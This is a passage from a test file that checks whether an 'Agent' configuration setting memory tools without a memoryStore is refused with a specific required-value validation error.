  // A rule that reads another field: adding `tools` to a block with no memoryStore is judged,
  // though the field it reports (memoryStore) is as absent as it was.
  await refused('Agent', 'harness', { config: { memory: { tools: 'read' } } }, 'spec.config.memory.memoryStore: Required value: tools requires memoryStore to be set');
});
